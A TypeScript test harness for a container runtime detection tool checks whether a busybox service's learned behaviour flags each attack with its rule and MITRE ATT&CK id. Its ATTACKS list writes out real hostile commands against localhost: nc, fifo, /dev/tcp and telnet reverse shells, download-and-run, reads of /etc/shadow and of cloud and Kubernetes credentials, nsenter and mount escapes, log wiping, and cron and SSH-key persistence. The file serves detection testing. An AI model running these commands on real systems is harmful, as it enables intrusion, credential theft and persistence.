/**
 * The audit corpora, run against real parts: the collector's CLI as users run
 * it (real eBPF through bpftrace, the Podman Engine API), Podman + runc
 * containers of the busybox image, the Loki stand-in (or LOKI_URL).
 *
 * One image learns what a small service does (a web server, a cron-like loop
 * with log rotation, health checks and operator commands through `podman
 * exec`, shells that fork or exec in place, a restart). Then:
 * - the benign corpus repeats that work the ways it happens in production
 *   (another path, a second container, a restart, a burst across the end of
 *   learning): expected 0 audits;
 * - the attack corpus runs each technique for real in a container of the
 *   same image: expected each caught with its rule and ATT&CK technique.
 *
 * Each case runs as one `podman exec` whose script starts with the case's
 * marker; an audit belongs to a case when its process, or one in its
 * `processAncestry`, is that exec's entry process. So every attribution also
 * checks that the audit tells its story up to the container's entry.
 *
 * Used by test/runtime/audit-corpora.test.ts and `npm run bench:audits`.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { nowNs, type CasefileEvent } from '@casefile/schema';
import { until } from '../../collector/test/helpers';
import { step, type Harness } from './collector-harness';

export { startHarness, step, type Harness } from './collector-harness';

/** The service: a web server, and a cron-like loop writing a log it rotates every 5 turns. */
const SERVICE = [
  '/bin/sh',
  '-c',
  [
    '/bin/mkdir -p /www /var/log && echo ok > /www/index.html',
    '(/bin/httpd -f -p 8080 -h /www &)',
    'i=0; while true; do i=$((i+1)); (/bin/date; /bin/uptime) >> /var/log/app.log',
    'if [ $((i % 5)) -eq 0 ]; then /bin/mv /var/log/app.log.1 /var/log/app.log.2 2>/dev/null; /bin/mv /var/log/app.log /var/log/app.log.1; /bin/rm -f /var/log/app.log.2; fi',
    '/bin/sh -c "exec /bin/sleep 1"; done',
  ].join('; '),
];
/** The attack container's own work: the service's loop without the listener (it shares the host's network). */
const QUIET = [
  '/bin/sh',
  '-c',
  '/bin/mkdir -p /var/log; while true; do /bin/date >> /var/log/app.log; /bin/sleep 1; done',
];

/** Routine work an operator or a probe does through `podman exec`. */
const ROUTINE: string[][] = [
  ['/bin/wget', '-q', '-O', '/dev/null', 'http://127.0.0.1:8080/'],
  ['/bin/sh', '-c', "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | /bin/nc 127.0.0.1 8080 > /dev/null"],
  ['/bin/ls', '-l', '/var/log'],
  ['/bin/cat', '/var/log/app.log'],
  ['/bin/sh', '-c', '/bin/true & /bin/date'],
  ['/bin/sh', '-c', 'exec /bin/hostname'],
  ['/bin/sh', '-c', '(/bin/ps; /bin/df) > /dev/null'],
];

export interface AttackCase {
  name: string;
  /** What MITRE ATT&CK for containers calls it. */
  technique: string;
  /** The rule that must catch it, and the technique id the audit must carry. */
  ruleId: string;
  mitre: string;
  script: (h: Harness) => string;
}

/** The attack corpus: each technique done for real inside the attack container. */
export const ATTACKS: AttackCase[] = [
  {
    name: 'interpreter',
    technique: 'Command and Scripting Interpreter',
    ruleId: 'R0001',
    mitre: 'T1059',
    script: () => `/bin/awk 'BEGIN { system("/bin/id") }'`,
  },
  {
    name: 'ingress-tool',
    technique: 'Ingress Tool Transfer (download and run)',
    ruleId: 'R1001',
    mitre: 'T1105',
    script: (h) =>
      `/bin/wget -q -O /tmp/sleep http://127.0.0.1:${h.httpPort}/tool && /bin/chmod +x /tmp/sleep && /tmp/sleep 1`,
  },
  {
    name: 'dropped-binary',
    technique: 'Dropped binary executed',
    ruleId: 'R1001',
    mitre: 'T1105',
    script: () => '/bin/mkdir -p /opt/bin && /bin/cp /bin/busybox /opt/bin/sleep && /opt/bin/sleep 1',
  },
  {
    name: 'modified-binary',
    technique: 'Modified binary executed (a learned executable replaced)',
    ruleId: 'R1001',
    mitre: 'T1105',
    script: () => '/bin/rm /bin/hostname && /bin/cp /bin/busybox /bin/hostname && /bin/hostname',
  },
  {
    name: 'miner',
    technique: 'Resource Hijacking: crypto miner',
    ruleId: 'R1007',
    mitre: 'T1496',
    script: () =>
      '/bin/ln -sf /bin/busybox /tmp/xmrig; /tmp/xmrig -o stratum+tcp://127.0.0.1:3333 --donate-level 1; true',
  },
  {
    name: 'mining-pool',
    technique: 'Resource Hijacking: mining pool connection',
    ruleId: 'R1009',
    mitre: 'T1496',
    script: () => '/bin/nc -w 1 127.0.0.1 3333 < /dev/null; true',
  },
  {
    name: 'port-scan',
    technique: 'Network Service Discovery (one nc per port)',
    ruleId: 'CF103',
    mitre: 'T1046',
    script: () => 'for p in $(/bin/seq 40100 40130); do /bin/nc -w 1 127.0.0.1 $p < /dev/null; done; true',
  },
  {
    name: 'revshell-nc-e',
    technique: 'Reverse shell: busybox nc -e',
    ruleId: 'CF101',
    mitre: 'T1059.004',
    script: (h) => `/bin/nc 127.0.0.1 ${h.shellPort} -e /bin/sh`,
  },
  {
    name: 'revshell-fifo',
    technique: 'Reverse shell: fifo pipeline',
    ruleId: 'CF101',
    mitre: 'T1059.004',
    script: (h) =>
      `/bin/rm -f /tmp/f; /bin/mkfifo /tmp/f; /bin/sh -i < /tmp/f 2>&1 | /bin/nc 127.0.0.1 ${h.shellPort} > /tmp/f; true`,
  },
  {
    name: 'revshell-dev-tcp',
    technique: 'Reverse shell: /dev/tcp (busybox sh lacks it: the attempt)',
    ruleId: 'CF101',
    mitre: 'T1059.004',
    script: (h) => `/bin/sh -c 'sh -i >& /dev/tcp/127.0.0.1/${h.shellPort} 0>&1'; true`,
  },
  {
    name: 'revshell-telnet',
    technique: 'Reverse shell: telnet pipeline',
    ruleId: 'CF101',
    mitre: 'T1059.004',
    script: (h) =>
      `/bin/timeout 3 /bin/telnet 127.0.0.1 ${h.shellPort} | /bin/sh | /bin/timeout 3 /bin/telnet 127.0.0.1 ${h.shellPort}; true`,
  },
  {
    name: 'sa-token',
    technique: 'Credential access: service-account token',
    ruleId: 'R0006',
    mitre: 'T1528',
    script: () => '/bin/cat /var/run/secrets/kubernetes.io/serviceaccount/token',
  },
  {
    name: 'cloud-credentials',
    technique: 'Credential access: cloud credential file',
    ruleId: 'CF108',
    mitre: 'T1552.001',
    script: () => '/bin/cat /root/.aws/credentials',
  },
  {
    name: 'shadow',
    technique: 'Credential access: /etc/shadow',
    ruleId: 'R0010',
    mitre: 'T1003.008',
    script: () => '/bin/cat /etc/shadow; true',
  },
  {
    name: 'nsenter',
    technique: 'Escape to Host: nsenter into pid 1',
    ruleId: 'CF109',
    mitre: 'T1611',
    script: () => '/bin/nsenter -t 1 -m -u -i -n -p /bin/sh -c id; true',
  },
  {
    name: 'mount-host',
    technique: "Escape to Host: mounting the host's disk",
    ruleId: 'CF110',
    mitre: 'T1611',
    script: () => '/bin/mkdir -p /mnt/host; /bin/mount -t ext4 /dev/vda1 /mnt/host; true',
  },
  {
    name: 'runtime-socket',
    technique: "Escape to Host: writing to the runtime's socket",
    ruleId: 'CF111',
    mitre: 'T1611',
    script: () => `printf 'GET /_ping HTTP/1.0\\r\\n\\r\\n' > /var/run/docker.sock; true`,
  },
  {
    name: 'log-delete',
    technique: 'Indicator Removal: clear Linux logs (delete)',
    ruleId: 'CF112',
    mitre: 'T1070.002',
    script: () => '/bin/rm -f /var/log/app.log',
  },
  {
    name: 'log-truncate',
    technique: 'Indicator Removal: clear Linux logs (truncate)',
    ruleId: 'CF112',
    mitre: 'T1070.002',
    script: () => ': > /var/log/app.log',
  },
  {
    name: 'history',
    technique: 'Indicator Removal: clear command history',
    ruleId: 'CF113',
    mitre: 'T1070.003',
    script: () => 'echo ls >> /root/.ash_history; /bin/rm /root/.ash_history',
  },
  {
    name: 'cron',
    technique: 'Persistence: cron job',
    ruleId: 'CF114',
    mitre: 'T1053.003',
    script: () => "/bin/mkdir -p /etc/crontabs; echo '* * * * * /tmp/x' >> /etc/crontabs/root",
  },
  {
    name: 'profile',
    technique: 'Persistence: shell profile',
    ruleId: 'CF114',
    mitre: 'T1546.004',
    script: () => "echo 'export PATH=/tmp:$PATH' >> /root/.profile",
  },
  {
    name: 'ssh-key',
    technique: 'Persistence: SSH authorized key',
    ruleId: 'CF114',
    mitre: 'T1098.004',
    script: () =>
      "/bin/mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAAC3 attacker' >> /root/.ssh/authorized_keys",
  },
];

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
const marker = (name: string) => `cf-case-${name}`;

/** What the corpora produced. */
export interface CorpusResult {
  /** Audits raised on benign work (all of it: learning, after learning, the attack container's own start). */
  benignAudits: CasefileEvent[];
  attacks: {
    name: string;
    technique: string;
    ruleId: string;
    mitre: string;
    caught: boolean;
    /** Rule ids of every audit attributed to the case. */
    rules: string[];
    /** The case's events in short (what a miss is diagnosed from). */
    trace: string;
  }[];
  /** Audits in the attack container after its start that no case's entry process leads to (a chain that broke). */
  storyless: CasefileEvent[];
  /** Audits per rule id, both corpora. */
  perRule: Record<string, number>;
  /** Kernel event -> audit decision, ms, for each attack audit. */
  latenciesMs: number[];
  /** Lineage facts checked on the benign run. */
  lineage: {
    containerExecs: CasefileEvent[];
    runtimeExecStarts: CasefileEvent[];
    initStarts: CasefileEvent[];
  };
  events: CasefileEvent[];
}

/**
 * Learn, then run the benign corpus and the attack corpus; returns what Loki
 * holds. `learningMs` must match the harness's learning period.
 */
export async function runCorpora(h: Harness, learningMs: number): Promise<CorpusResult> {
  const exec = (id: string, cmd: string[]) => h.pm.exec(id, cmd).catch((err: Error) => err.message);
  // --- learning --------------------------------------------------------------------------
  step('learning: service, routine execs, a restart');
  const svc = await h.pm.run(SERVICE, { name: 'cf-svc' });
  const learningStarted = Date.now();
  await until('the service answers', async () => (await exec(svc, ROUTINE[0])) === '', 60_000, 500);
  for (const cmd of ROUTINE) await exec(svc, cmd);
  await h.pm.podman(['restart', '-t', '1', svc]);
  await until(
    'the service answers after its restart',
    async () => (await exec(svc, ROUTINE[0])) === '',
    60_000,
    500
  );
  for (const cmd of ROUTINE) await exec(svc, cmd);
  // A burst of routine work that runs across the end of the learning period.
  const burstAt = learningStarted + learningMs - 4000;
  if (Date.now() < burstAt) await sleep(burstAt - Date.now());
  step('burst across the end of learning');
  const burst = exec(svc, [
    '/bin/sh',
    '-c',
    'for i in $(/bin/seq 1 16); do /bin/ls /var/log > /dev/null; /bin/cat /var/log/app.log > /dev/null; /bin/sleep 0.5; done',
  ]);
  const model = await until(
    'the image model active',
    async () => {
      const id = (await h.read({ containers: [svc] })).find((e) => e.type === 'model.learned')?.modelId;
      const states = id ? await h.read({ types: ['model.state'] }) : [];
      return id && states.some((e) => e.modelId === id && e.modelState === 'active') ? id : undefined;
    },
    learningMs + 120_000,
    1000
  );
  await burst;
  // --- benign, after learning ----------------------------------------------------------------
  step(`benign corpus against active model ${model}`);
  for (const cmd of ROUTINE) await exec(svc, cmd);
  await h.pm.podman(['restart', '-t', '1', svc]);
  await until(
    'the service answers after a second restart',
    async () => (await exec(svc, ROUTINE[0])) === '',
    60_000,
    500
  );
  const svc2 = await h.pm.run(SERVICE, { name: 'cf-svc2' });
  await until('the second container answers', async () => (await exec(svc2, ROUTINE[0])) === '', 60_000, 500);
  for (const cmd of ROUTINE) await exec(svc2, cmd);
  await sleep(7000); // the loops turn (and rotate their logs) a few more times
  for (const cmd of ROUTINE) await exec(svc, cmd);

  // --- attacks --------------------------------------------------------------------------------
  step('attack container');
  const secrets = join(h.dir, 'secrets');
  mkdirSync(join(secrets, 'sa'), { recursive: true });
  mkdirSync(join(secrets, 'aws'), { recursive: true });
  writeFileSync(join(secrets, 'sa', 'token'), 'eyJhbGciOiJSUzI1NiJ9.e30.c2ln\n');
  writeFileSync(join(secrets, 'aws', 'credentials'), '[default]\naws_access_key_id = AKIAEXAMPLE\n');
  const socket = join(h.pm.dir, 'podman.sock');
  const atk = (
    await h.pm.podman([
      'run',
      '-d',
      '--network=host',
      '--name',
      'cf-atk',
      '-v',
      `${join(secrets, 'sa')}:/var/run/secrets/kubernetes.io/serviceaccount:ro`,
      '-v',
      `${join(secrets, 'aws')}:/root/.aws:ro`,
      '-v',
      `${socket}:/var/run/docker.sock`,
      h.pm.image,
      ...QUIET,
    ])
  ).trim();
  await sleep(3000);
  const benignUntil = BigInt(nowNs());
  step('attack corpus');
  // The marker leads the script: an argv cut by the kernel's 128-byte copy (its process gone before /proc
  // could complete it) still names its case.
  for (const a of ATTACKS) await exec(atk, ['/bin/sh', '-c', `: ${marker(a.name)}; ${a.script(h)}`]);

  // --- what Loki holds ---------------------------------------------------------------------------
  step('reading Loki');
  const entryOf = (evs: CasefileEvent[], name: string) =>
    evs.find(
      (e) =>
        e.type === 'process.start' &&
        e.containerId === atk &&
        e.processEntry === 'runtime_exec' &&
        e.args?.[2]?.startsWith(`: ${marker(name)};`)
    )?.processKey;
  const caseAudits = (evs: CasefileEvent[], key: string | undefined) =>
    key
      ? evs.filter(
          (e) =>
            e.type === 'runtime.audit' &&
            e.containerId === atk &&
            (e.processKey === key || e.processAncestry?.includes(key))
        )
      : [];
  const everyCase = (evs: CasefileEvent[]) =>
    ATTACKS.every((a) =>
      caseAudits(evs, entryOf(evs, a.name)).some((x) => x.ruleId === a.ruleId && x.mitreTechnique === a.mitre)
    );
  let events: CasefileEvent[] = [];
  let readError: Error | undefined;
  await until(
    'every attack audited in Loki',
    async () => {
      try {
        events = await h.read({ containers: [svc, svc2, atk] });
        readError = undefined;
      } catch (err) {
        readError = err as Error;
        return false;
      }
      return everyCase(events);
    },
    45_000,
    1000
  ).catch(() => undefined); // the result says which were missed
  // A result read from nothing would pass the benign corpus for the wrong reason.
  if (readError || events.length === 0)
    throw new Error(`cannot read the corpora's events from Loki: ${readError?.message}`);
  const ours = new Set([svc, svc2, atk]);
  const audits = events.filter((e) => e.type === 'runtime.audit' && ours.has(e.containerId ?? ''));
  const benignAudits = audits.filter((e) => e.containerId !== atk || BigInt(e.timeNs) < benignUntil);
  const perRule: Record<string, number> = {};
  for (const a of audits) perRule[a.ruleId!] = (perRule[a.ruleId!] ?? 0) + 1;
  const latenciesMs: number[] = [];
  const attacks = ATTACKS.map((a) => {
    const key = entryOf(events, a.name);
    const got = caseAudits(events, key);
    for (const x of got) {
      const trigger = events
        .filter(
          (e) =>
            e.processKey === x.processKey &&
            e.type !== 'runtime.audit' &&
            e.type !== 'model.learned' &&
            BigInt(e.timeNs) <= BigInt(x.timeNs)
        )
        .sort((p, q) => (BigInt(q.timeNs) > BigInt(p.timeNs) ? 1 : -1))[0];
      if (trigger) latenciesMs.push(Number(BigInt(x.timeNs) - BigInt(trigger.timeNs)) / 1e6);
    }
    return {
      name: a.name,
      technique: a.technique,
      ruleId: a.ruleId,
      mitre: a.mitre,
      caught: got.some((x) => x.ruleId === a.ruleId && x.mitreTechnique === a.mitre),
      rules: [...new Set(got.map((x) => x.ruleId!))].sort(),
      trace:
        events
          .filter((e) => key && (e.processKey === key || e.processAncestry?.includes(key)))
          .map((e) =>
            [e.type, e.executable, e.commandLine?.slice(0, 80), e.destPort, e.syscall, e.filePath, e.ruleId]
              .filter((v) => v !== undefined)
              .join(' ')
          )
          .join(' | ')
          .slice(0, 3000) ||
        `no entry process found; starts naming the case: ${events
          .filter((e) => e.type === 'process.start' && e.commandLine?.includes(marker(a.name)))
          .map(
            (e) =>
              `${e.containerId?.slice(0, 12)} entry=${e.processEntry} parent=${e.parentProcessKey} ${e.parentExecutable} (${e.parentCommandLine?.slice(0, 60)}) ppid=${e.ppid}`
          )
          .join(' | ')}`,
    };
  });
  const entries = ATTACKS.map((a) => entryOf(events, a.name)).filter((k): k is string => !!k);
  const storyless = audits.filter(
    (e) =>
      e.containerId === atk &&
      BigInt(e.timeNs) >= benignUntil &&
      !entries.some((k) => e.processKey === k || e.processAncestry?.includes(k))
  );
  const mine = (e: CasefileEvent) => e.containerId === svc || e.containerId === svc2;
  return {
    benignAudits,
    attacks,
    storyless,
    perRule,
    latenciesMs,
    lineage: {
      containerExecs: events.filter((e) => e.type === 'container.exec' && mine(e)),
      runtimeExecStarts: events.filter(
        (e) => e.type === 'process.start' && mine(e) && e.processEntry === 'runtime_exec'
      ),
      initStarts: events.filter(
        (e) => e.type === 'process.start' && mine(e) && e.processEntry === 'container_init'
      ),
    },
    events,
  };
}

/** One line per audit, for failure messages. */
export function describe(evs: CasefileEvent[]): string {
  return evs
    .map(
      (e) =>
        `${e.ruleId} ${e.mitreTechnique ?? ''} ${e.containerName ?? e.containerId?.slice(0, 12)} ${e.executable ?? ''} ${e.message.slice(0, 160)} ancestry=${e.processAncestry?.length ?? 0}`
    )
    .join('\n');
}
